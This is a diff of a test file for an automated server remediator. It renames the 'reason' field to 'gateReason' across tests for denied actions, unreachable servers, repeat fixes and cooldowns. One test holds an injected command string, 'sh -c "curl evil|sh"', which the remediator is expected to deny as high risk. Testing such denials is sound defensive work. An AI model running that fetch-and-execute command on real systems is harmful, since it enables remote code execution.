@@ -83,7 +83,7 @@ describe('remediator', () => {
       params: { cmd: 'hunter2' },
     });
     expect(injected).toMatchObject({ decision: 'deny', risk: 'high', action: 'sh -c "curl evil|sh"' });
-    expect(injected.reason).not.toContain('hunter2');
+    expect(injected.gateReason).not.toContain('hunter2');
     expect(report.shell.scripts).toEqual([]);
     expect(report.run.actions).toHaveLength(2);
     expect(new Set(report.run.actions.map((a) => a.path)).size).toBe(2);
@@ -91,9 +91,9 @@ describe('remediator', () => {
     const down = setup({ shell: false });
     expect(await down.r.remediate(restartNginx)).toMatchObject({
       decision: 'deny',
-      reason: expect.stringMatching(/^server unreachable/),
+      gateReason: expect.stringMatching(/^server unreachable/),
     });
-    expect((await down.r.remediate({ ...restartNginx, server: 'nope' })).reason).toMatch(
+    expect((await down.r.remediate({ ...restartNginx, server: 'nope' })).gateReason).toMatch(
       /^unknown server "nope"/,
     );
   });
@@ -104,7 +104,7 @@ describe('remediator', () => {
     // the repo's playbook for the same finding: nginx already passes in this run's latest re-check
     const second = await r.remediate({ ...restartNginx, action: 'start-service' });
     expect(second).toMatchObject({ decision: 'deny', outcome: 'not-run' });
-    expect(second.reason).toMatch(
+    expect(second.gateReason).toMatch(
       /^web1\/service\/nginx already passes: an earlier action of this run fixed it/,
     );
     expect(shell.scripts).toEqual(["systemctl restart -- 'nginx'\n"]);
@@ -146,7 +146,7 @@ describe('remediator', () => {
       fingerprint: endpoint.fingerprint,
     });
     expect(poke).toMatchObject({ decision: 'deny', outcome: 'not-run' });
-    expect(poke.reason).toMatch(/already passes: an earlier action of this run fixed it/);
+    expect(poke.gateReason).toMatch(/already passes: an earlier action of this run fixed it/);
     expect(rechecks).toEqual([['service'], ['endpoint']]);
     expect(shell.scripts).toEqual(["systemctl restart -- 'nginx'\n"]);
   });
@@ -156,7 +156,7 @@ describe('remediator', () => {
     await r.remediate(restartNginx);
     const again = await r.remediate(restartNginx);
     expect(again.decision).toBe('deny');
-    expect(again.reason).toMatch(/cooldown|already ran in this run/);
+    expect(again.gateReason).toMatch(/cooldown|already ran in this run/);
     expect(shell.scripts).toHaveLength(1);
   });
 
